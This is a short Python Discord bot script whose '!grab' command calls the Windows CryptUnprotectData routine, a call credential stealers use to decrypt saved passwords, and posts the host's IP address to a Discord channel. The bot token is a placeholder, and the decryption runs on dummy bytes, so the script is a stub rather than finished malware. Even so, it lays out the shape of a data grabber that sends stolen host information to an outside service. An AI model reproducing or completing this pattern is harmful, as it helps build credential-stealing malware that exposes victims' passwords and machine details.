import socket, win32crypt
from discord.ext import commands
bot = commands.Bot(command_prefix='!')

@bot.command()
async def grab(ctx):
    key = win32crypt.CryptUnprotectData(b'x', None, None, None, 0)
    await ctx.send(socket.gethostbyname(socket.gethostname()))

bot.run('OTAwMDAwMDAwMDAwMDAwMDAw.GAAAAA.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')
